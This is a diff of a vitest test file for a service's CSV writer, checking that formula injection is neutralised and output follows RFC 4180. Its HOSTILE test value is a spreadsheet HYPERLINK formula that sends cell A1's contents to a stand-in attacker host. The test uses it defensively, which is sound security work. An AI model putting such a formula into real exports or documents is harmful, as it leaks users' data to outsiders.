@@ -1,14 +1,15 @@
-// THE CSV writer (src/contract/csv.ts): formula injection neutralised (OWASP) in every CSV svc writes — the
+// THE CSV writer (src/lib/csv.ts, on csv-stringify): formula injection neutralised (OWASP) in every CSV svc writes — the
 // service's audit export and the client's query export — and no other module writes CSV fields of its own.
 import {readdirSync, readFileSync} from 'node:fs';
 import {join, relative, resolve} from 'node:path';
 import {describe, expect, it} from 'vitest';
-import {csvField, csvRecord} from '../../src/contract/csv.js';
+import {csvField, csvRecord, csvRecords} from '../../src/lib/csv.js';
 import {insertAuditEvent} from '../../src/server/store/audit.js';
 import {rowsToCsv} from '../../src/workflows/query.js';
 import {parseCsv} from '../helpers/csv.js';
 import {testAppEach} from '../helpers/startService.js';
 
+const QUOTED = '"a ""quote"""';
 const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"open")';
 
 describe('csvField', () => {
@@ -21,6 +22,10 @@ describe('csvField', () => {
     ['\r=1', `"'\r=1"`],
     ['plain, with comma', '"plain, with comma"'],
     ['a@b.example', 'a@b.example'],
+    ['\uFF1D1+1', "'\uFF1D1+1"],
+    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
+    ['two\nlines', '"two\nlines"'],
+    ['a "quote"', QUOTED],
     ['-12.5', '-12.5'],
     ['+3e4', '+3e4'],
     ['', ''],
@@ -30,6 +35,20 @@ describe('csvField', () => {
 
   it('a neutralised cell reads back as the text with its leading quote, nothing else changed', () => {
     expect(parseCsv(csvRecord([HOSTILE, 'x']))).toEqual([[`'${HOSTILE}`, 'x']]);
+  });
+
+  it('records are CRLF-terminated, empty cells stay empty, nothing is quoted that need not be', () => {
+    expect(csvRecords([['id', 'name'], ['1', ''], ['', 'b,c']])).toBe('id,name\r\n1,\r\n,"b,c"\r\n');
+    expect(csvRecords([])).toBe('');
+  });
+});
+
+describe("the tests' CSV reader (test/helpers/csv.ts, on csv-parse)", () => {
+  it('reads what RFC 4180 allows and throws on what a sloppy writer makes', () => {
+    expect(parseCsv('a,"b\r\nc"\r\n"x""y",\r\n')).toEqual([['a', 'b\r\nc'], ['x"y', '']]);
+    for (const sloppy of ['a,b', 'a,"b"c\r\n', 'a,b"c\r\n', 'a\nb\r\n', 'a\rb\r\n', 'a,b\r\nc\r\n', '"a\r\n']) {
+      expect(() => parseCsv(sloppy), JSON.stringify(sloppy)).toThrow();
+    }
   });
 });
 
@@ -55,13 +74,11 @@ describe('every CSV svc writes', () => {
     ]);
   });
 
-  it('no other module quotes CSV fields itself', () => {
+  it('no other module quotes CSV fields itself or calls csv-stringify', () => {
     const root = resolve(import.meta.dirname, '../..');
     const walk = (d: string): string[] => readdirSync(d, {withFileTypes: true}).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : /\.tsx?$/.test(e.name) ? [join(d, e.name)] : []));
-    const quoting = [...walk(join(root, 'src')), ...walk(join(root, 'screens'))]
-      .filter((f) => relative(root, f) !== 'src/contract/csv.ts')
-      .filter((f) => /\[",\\r\\n\]/.test(readFileSync(f, 'utf8')))
-      .map((f) => relative(root, f));
+    const others = [...walk(join(root, 'src')), ...walk(join(root, 'screens'))].filter((f) => relative(root, f) !== 'src/lib/csv.ts');
+    const quoting = others.filter((f) => /\[",\\r\\n\]|from 'csv-stringify/.test(readFileSync(f, 'utf8'))).map((f) => relative(root, f));
     expect(quoting).toEqual([]);
   });
 });
